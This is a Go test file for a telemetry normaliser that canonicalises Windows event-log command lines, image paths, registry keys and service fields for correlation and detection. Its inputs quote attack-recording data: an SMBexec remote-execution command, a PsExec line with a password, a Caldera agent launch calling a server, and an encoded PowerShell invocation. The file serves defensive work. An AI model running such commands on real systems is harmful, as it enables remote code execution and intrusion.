package telemetry

import (
	"strings"
	"testing"
)

// The inputs below are quoted from ../shared/datasets; each case names the
// recording and field it comes from.

func TestSplitCommandLine(t *testing.T) {
	tests := []struct {
		name, in, image, args string
	}{
		{
			"quoted with arguments (system.evtx 7045 ImagePath)",
			`"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc`,
			`C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, `/svc`,
		},
		{
			"quoted alone (system.evtx 7045 ImagePath)",
			`"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe"`,
			`C:\Program Files\VMware\VMware Tools\vmtoolsd.exe`, ``,
		},
		{
			"unquoted with switch (system.evtx 7045 ImagePath)",
			`C:\Windows\system32\dllhost.exe /Processid:{74600A00-7492-484F-9A3E-C510CC95F515}`,
			`C:\Windows\system32\dllhost.exe`, `/Processid:{74600A00-7492-484F-9A3E-C510CC95F515}`,
		},
		{
			"environment image (SMBexec 7045 ImagePath)",
			`%COMSPEC% /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat`,
			`%COMSPEC%`, `/Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat`,
		},
		{
			"quoted first token with argument text (PsExec 4688 CommandLine)",
			`"cmd.exe" -u demo\admmig -p Admin1235 -accepteula `,
			`cmd.exe`, `-u demo\admmig -p Admin1235 -accepteula `,
		},
		{
			"no extension (4688 Service created (command))",
			`sc  create hacker-testl3 binPath="3virus.exe" `,
			`sc`, `create hacker-testl3 binPath="3virus.exe" `,
		},
		{
			"unquoted path with spaces (an1185 notes B5, PDQ)",
			`C:\Program Files\Admin Arsenal\PDQ Deploy\PDQDeployRunner-1.exe -svc`,
			`C:\Program Files\Admin Arsenal\PDQ Deploy\PDQDeployRunner-1.exe`, `-svc`,
		},
		{
			"switch stops the prefix (Caldera sandcat binpath)",
			`cmd /c start C:\Users\Public\s4ndc4t.exe -server http://10.0.0.1`,
			`cmd`, `/c start C:\Users\Public\s4ndc4t.exe -server http://10.0.0.1`,
		},
		{"unterminated quote", `"C:\x y\z.exe -a`, `C:\x y\z.exe -a`, ``},
		{"empty", ``, ``, ``},
		{"spaces only", `   `, ``, ``},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			image, args := SplitCommandLine(tt.in)
			if image != tt.image || args != tt.args {
				t.Errorf("SplitCommandLine(%q) = %q, %q; want %q, %q",
					tt.in, image, args, tt.image, tt.args)
			}
		})
	}
}

func TestCanonicalImage(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"4697 ServiceFileName (PsExec remote)", `%SystemRoot%\PSEXESVC.exe`,
			`c:\windows\psexesvc.exe`},
		{"Sysmon 13 Details doubles percent (PSexec as system)",
			`%%SystemRoot%%\PSEXESVC.exe`, `c:\windows\psexesvc.exe`},
		{"4688 NewProcessName (PsExec remote)", `C:\Windows\PSEXESVC.exe`,
			`c:\windows\psexesvc.exe`},
		{"7045 COMSPEC (SMBexec)",
			`%COMSPEC% /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat`,
			`c:\windows\system32\cmd.exe`},
		{"Sysmon 13 doubled COMSPEC (SMBexec)",
			`%%COMSPEC%% /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > %%TEMP%%\execute.bat`,
			`c:\windows\system32\cmd.exe`},
		{"7045 svchost group (system.evtx)", `%SystemRoot%\system32\svchost.exe -k print`,
			`c:\windows\system32\svchost.exe`},
		{"7045 lower-case systemroot (system.evtx)",
			`%systemroot%\Microsoft.Net\Framework64\v3.0\WPF\PresentationFontCache.exe`,
			`c:\windows\microsoft.net\framework64\v3.0\wpf\presentationfontcache.exe`},
		{"7045 kernel driver \\SystemRoot (system.evtx)", `\SystemRoot\system32\DRIVERS\vsock.sys`,
			`c:\windows\system32\drivers\vsock.sys`},
		{"7045 relative driver (system.evtx)", `system32\DRIVERS\vmhgfs.sys`,
			`c:\windows\system32\drivers\vmhgfs.sys`},
		{"7045 relative driver, capital S (system.evtx)", `System32\drivers\vmci.sys`,
			`c:\windows\system32\drivers\vmci.sys`},
		{"4688 CommandLine with \\??\\ (PsExec remote)",
			`\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`,
			`c:\windows\system32\conhost.exe`},
		{"Win32 long-path prefix", `\\?\C:\Windows\System32\svchost.exe -k netsvcs`,
			`c:\windows\system32\svchost.exe`},
		{"Sysmon 1 CommandLine doubled systemroot (sysmon.evtx)",
			`%%systemroot%%\system32\MusNotificationUX.exe Dialog_AllowSchedulingThirdReminder 0`,
			`c:\windows\system32\musnotificationux.exe`},
		{"quoted Program Files (system.evtx)",
			`"C:\Program Files\VMware\VMware Tools\VMware VGAuth\VGAuthService.exe"`,
			`c:\program files\vmware\vmware tools\vmware vgauth\vgauthservice.exe`},
		{"windir (an1185 M11)", `%windir%\system32\cmd.exe`, `c:\windows\system32\cmd.exe`},
		{"systemdrive", `%SystemDrive%\Tools\svc.exe`, `c:\tools\svc.exe`},
		{"forward slashes (Cortado)", `c:/windows/system32/ipconfig.exe`,
			`c:\windows\system32\ipconfig.exe`},
		{"bare image (EVTX 7045 ImagePath)", `cmd.exe`, `cmd.exe`},
		{"no extension, arguments (an1185 notes M9, Caldera)",
			`cmd /c start C:\Users\Public\s4ndc4t.exe -server http://10.0.0.1`, `cmd.exe`},
		{"no extension, path (Mordor 7045 ImagePath text)",
			`C:\Windows\System32\WindowsPowershell\v1.0\powershell -noP -sta -w 1 -enc  SQBmACgA`,
			`c:\windows\system32\windowspowershell\v1.0\powershell.exe`},
		{"Sysmon pseudo-process (FileCreate Image)", `System`, `system`},
		{"non-ASCII (MANIFEST pitfall 10)", `C:\Users\Public\VIRUSÉ.exe`,
			`c:\users\public\virusé.exe`},
		{"Sysmon unresolved parent", `?`, ``},
		{"Sysmon unknown parent", `-`, ``},
		{"not an environment prefix", `\SystemRootX\a.exe`, `\systemrootx\a.exe`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := CanonicalImage(tt.in); got != tt.want {
				t.Errorf("CanonicalImage(%q) = %q; want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestCanonicalImageJoinsForms(t *testing.T) {
	// One service binary as 4697, Sysmon 13, Sysmon 1 and 4688 record it must
	// give one key: the correlator's image join depends on it.
	forms := []string{
		`%SystemRoot%\PSEXESVC.exe`,
		`%%SystemRoot%%\PSEXESVC.exe`,
		`C:\Windows\PSEXESVC.exe`,
		`\SystemRoot\PSEXESVC.exe`,
		`"C:\WINDOWS\PSEXESVC.EXE"`,
	}
	want := CanonicalImage(forms[0])
	for _, f := range forms[1:] {
		if got := CanonicalImage(f); got != want {
			t.Errorf("CanonicalImage(%q) = %q; want %q", f, got, want)
		}
	}
}

func TestCanonicalImageDoesNotAllocateWhenCanonical(t *testing.T) {
	in := `c:\windows\system32\services.exe`
	allocs := testing.AllocsPerRun(100, func() { _ = CanonicalImage(in) })
	if allocs != 0 {
		t.Errorf("CanonicalImage(%q) allocated %v times; want 0", in, allocs)
	}
}

func TestCanonicalRegistryPath(t *testing.T) {
	const psexec = `hklm\system\currentcontrolset\services\psexesvc\imagepath`
	tests := []struct {
		name, in, want string
	}{
		{"Sysmon 13 (PSexec as system)", `HKLM\System\CurrentControlSet\Services\PSEXESVC\ImagePath`,
			psexec},
		{"old Sysmon kernel path (sysmon.evtx)",
			`\REGISTRY\MACHINE\SYSTEM\ControlSet001\Services\PROCMON23\ImagePath`,
			`hklm\system\currentcontrolset\services\procmon23\imagepath`},
		{"lower-case services (EVTX-ATTACK-SAMPLES)",
			`HKLM\System\CurrentControlSet\services\msdhch\Start`,
			`hklm\system\currentcontrolset\services\msdhch\start`},
		{"HKEY_LOCAL_MACHINE", `HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\PSEXESVC\ImagePath`,
			psexec},
		{"PowerShell drive (an1185 M12)", `HKLM:\SYSTEM\CurrentControlSet\Services\PSEXESVC\ImagePath`,
			psexec},
		{"PowerShell provider path", `Registry::HKEY_LOCAL_MACHINE\SYSTEM\ControlSet002\Services\PSEXESVC\ImagePath`,
			psexec},
		{"4657 ObjectName (Mordor)", `\REGISTRY\MACHINE\SYSTEM\ControlSet001\Control\Lsa`,
			`hklm\system\currentcontrolset\control\lsa`},
		{"user hive (sysmon.evtx)", `\REGISTRY\USER\.DEFAULT\Software\Classes\OperaStable\shell\open\command\(Default)`,
			`hku\.default\software\classes\operastable\shell\open\command\(default)`},
		{"app hive (Mordor)", `\REGISTRY\A\{30d649b8-5a3f-0883-f1ae-8ffa62b2e234}\LocalState`,
			`registry\a\{30d649b8-5a3f-0883-f1ae-8ffa62b2e234}\localstate`},
		{"trailing backslash", `HKLM\SYSTEM\CurrentControlSet\Services\X\`,
			`hklm\system\currentcontrolset\services\x`},
		{"control set outside SYSTEM is kept", `HKLM\SOFTWARE\ControlSet001\X`,
			`hklm\software\controlset001\x`},
		{"empty", ``, ``},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := CanonicalRegistryPath(tt.in); got != tt.want {
				t.Errorf("CanonicalRegistryPath(%q) = %q; want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestServiceFromRegistryPath(t *testing.T) {
	tests := []struct {
		name, in, service, value string
		ok                       bool
	}{
		{"Sysmon 13 ImagePath (PSexec as system)",
			`HKLM\System\CurrentControlSet\Services\PSEXESVC\ImagePath`, "PSEXESVC", "ImagePath", true},
		{"old Sysmon (sysmon.evtx)", `\REGISTRY\MACHINE\SYSTEM\ControlSet001\Services\PROCMON23\Start`,
			"PROCMON23", "Start", true},
		{"ServiceDll (an1185 M13)",
			`HKLM\SYSTEM\CurrentControlSet\Services\W64Time\Parameters\ServiceDll`,
			"W64Time", `Parameters\ServiceDll`, true},
		{"the key itself (Sysmon 12 CreateKey)", `HKLM\System\CurrentControlSet\Services\Updater`,
			"Updater", "", true},
		{"lower-case services", `HKLM\System\CurrentControlSet\services\msdhch\Start`,
			"msdhch", "Start", true},
		{"4657 ObjectName + value", `\REGISTRY\MACHINE\SYSTEM\ControlSet001\Services\WinSock2\Parameters`,
			"WinSock2", "Parameters", true},
		{"Services key alone", `HKLM\System\CurrentControlSet\Services`, "", "", false},
		{"not under Services (Mordor 12)", `HKLM\System\CurrentControlSet\Control\NetworkSetup2\Services`,
			"", "", false},
		{"user hive", `HKU\S-1-5-20\Software\Microsoft\Windows\CurrentVersion\DeliveryOptimization`,
			"", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			service, value, ok := ServiceFromRegistryPath(tt.in)
			if service != tt.service || value != tt.value || ok != tt.ok {
				t.Errorf("ServiceFromRegistryPath(%q) = %q, %q, %v; want %q, %q, %v",
					tt.in, service, value, ok, tt.service, tt.value, tt.ok)
			}
		})
	}
}

func TestParseServiceType(t *testing.T) {
	tests := []struct {
		in   string
		want uint32
		ok   bool
	}{
		{"user mode service", 0x10, true},   // 7045 (SMBexec)
		{"kernel mode driver", 0x1, true},   // 7045 (system.evtx)
		{"file system driver", 0x2, true},   // 7045 message table
		{"0x00000010", 0x10, true},          // 4697 (PsExec remote)
		{"0x10", 0x10, true},                // 4697 (Mordor flattened)
		{"16", 0x10, true},                  // decimal
		{"0xe0", 0xe0, true},                // 4697 per-user service
		{"WIN32_OWN_PROCESS", 0x10, true},   // sc.exe query
		{"WIN32_SHARE_PROCESS", 0x20, true}, // sc.exe query
		{"share process", 0x20, true},
		{"own process", 0x10, true},
		{"SERVICE_KERNEL_DRIVER", 0x1, true},
		{"User Mode Service", 0x10, true},
		{"own process interactive", 0x110, true},
		{"", 0, false},
		{"-", 0, false},
		{"something else", 0, false},
		{"0x1ffffffff", 0, false},
	}
	for _, tt := range tests {
		got, ok := ParseServiceType(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("ParseServiceType(%q) = %#x, %v; want %#x, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}

func TestServiceTypeText(t *testing.T) {
	tests := []struct {
		in   uint32
		want string
	}{
		{0x1, "kernel mode driver"},
		{0x2, "file system driver"},
		{0x10, "user mode service"},
		{0x20, "user mode service"}, // 7045 for svchost -k print (system.evtx)
		{0xe0, "user mode service"},
		{0x8, "0x00000008"},
	}
	for _, tt := range tests {
		if got := ServiceTypeText(tt.in); got != tt.want {
			t.Errorf("ServiceTypeText(%#x) = %q; want %q", tt.in, got, tt.want)
		}
		if back, ok := ParseServiceType(ServiceTypeText(tt.in)); !ok ||
			IsUserModeService(back) != IsUserModeService(tt.in) {
			t.Errorf("ParseServiceType(ServiceTypeText(%#x)) = %#x, %v; want the same kind",
				tt.in, back, ok)
		}
	}
}

func TestParseStartType(t *testing.T) {
	tests := []struct {
		in   string
		want uint32
		ok   bool
	}{
		{"auto start", 2, true},   // 7045 / 7040 param3
		{"demand start", 3, true}, // 7045 (SMBexec)
		{"boot start", 0, true},   // 7045 (system.evtx)
		{"system start", 1, true}, // 7040 param2 (Mordor NdisCap)
		{"disabled", 4, true},
		{"3", 3, true}, // 4697 ServiceStartType
		{"2", 2, true},
		{"SERVICE_DEMAND_START", 3, true},
		{"auto", 2, true},
		{"Automatic", 2, true},
		{"delayed-auto", 2, true},
		{"Manual", 3, true},
		{"5", 0, false},
		{"", 0, false},
		{"sometimes", 0, false},
	}
	for _, tt := range tests {
		got, ok := ParseStartType(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("ParseStartType(%q) = %d, %v; want %d, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
	for i := StartBoot; i <= StartDisabled; i++ {
		if back, ok := ParseStartType(StartTypeText(i)); !ok || back != i {
			t.Errorf("ParseStartType(StartTypeText(%d)) = %d, %v; want %d, true", i, back, ok, i)
		}
	}
}

func TestParseNumber(t *testing.T) {
	tests := []struct {
		in   string
		want uint64
		ok   bool
	}{
		{"0x0000000000000c24", 0xc24, true},     // 4688 NewProcessId (PsExec remote)
		{"0x0000000001375fbd", 0x1375fbd, true}, // 4624 TargetLogonId
		{"0x3e7", 0x3e7, true},                  // Mordor SubjectLogonId
		{"0x4B0AD12", 0x4b0ad12, true},          // upper-case digits
		{"0X10", 0x10, true},
		{"6100", 6100, true}, // Sysmon ProcessId
		{" 704 ", 704, true},
		{"0xffffffffffffffff", 1<<64 - 1, true},
		{"0x1ffffffffffffffff", 0, false},
		{"18446744073709551615", 1<<64 - 1, true},
		{"18446744073709551616", 0, false},
		{"", 0, false},
		{"-", 0, false},
		{"0x", 0, false},
		{"12a", 0, false},
		{"%%1842", 0, false},
	}
	for _, tt := range tests {
		got, ok := ParseNumber(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("ParseNumber(%q) = %d, %v; want %d, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}

func TestHexText(t *testing.T) {
	tests := []struct {
		v     uint64
		width int
		want  string
	}{
		{0xc24, 16, "0x0000000000000c24"},
		{0x10, 8, "0x00000010"},
		{0x3e7, 0, "0x3e7"},
		{0, 0, "0x0"},
		{1<<64 - 1, 16, "0xffffffffffffffff"},
		{1, 40, "0x0000000000000001"},
	}
	for _, tt := range tests {
		if got := HexText(tt.v, tt.width); got != tt.want {
			t.Errorf("HexText(%#x, %d) = %q; want %q", tt.v, tt.width, got, tt.want)
		}
	}
}

func TestCanonicalGUID(t *testing.T) {
	tests := []struct{ in, want string }{
		{"{94F748D5-D211-597D-0000-00109BD2C107}", "{94F748D5-D211-597D-0000-00109BD2C107}"},
		{"{d273d0f0-e867-5f64-1900-000000000800}", "{D273D0F0-E867-5F64-1900-000000000800}"},
		{"{00000000-0000-0000-0000-000000000000}", ""},
		{"-", ""},
		{"?", ""},
		{"", ""},
		{"d273d0f0-e867-5f64-1900-000000000800", "{D273D0F0-E867-5F64-1900-000000000800}"},
	}
	for _, tt := range tests {
		if got := CanonicalGUID(tt.in); got != tt.want {
			t.Errorf("CanonicalGUID(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

func FuzzNormalize(f *testing.F) {
	for _, s := range []string{
		`%%SystemRoot%%\PSEXESVC.exe`, `"C:\Program Files\x.exe" -a`, `\??\C:\a.exe`,
		`\REGISTRY\MACHINE\SYSTEM\ControlSet001\Services\X\ImagePath`, `0x0000000000000c24`,
		`HKLM:\SYSTEM\CurrentControlSet\Services\X`, `"`, `%`, `\`, `0x`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		image := CanonicalImage(s)
		if strings.ToLower(image) != image {
			t.Errorf("CanonicalImage(%q) = %q; want lower case", s, image)
		}
		key := CanonicalRegistryPath(s)
		if strings.ToLower(key) != key {
			t.Errorf("CanonicalRegistryPath(%q) = %q; want lower case", s, key)
		}
		if svc, _, ok := ServiceFromRegistryPath(s); ok && svc == "" {
			t.Errorf("ServiceFromRegistryPath(%q) = \"\", ok; want a service name", s)
		}
		if v, ok := ParseNumber(s); ok {
			if back, ok := ParseNumber(HexText(v, 16)); !ok || back != v {
				t.Errorf("ParseNumber(HexText(%d)) = %d, %v; want %d", v, back, ok, v)
			}
		}
		ParseServiceType(s)
		ParseStartType(s)
		CanonicalGUID(s)
	})
}
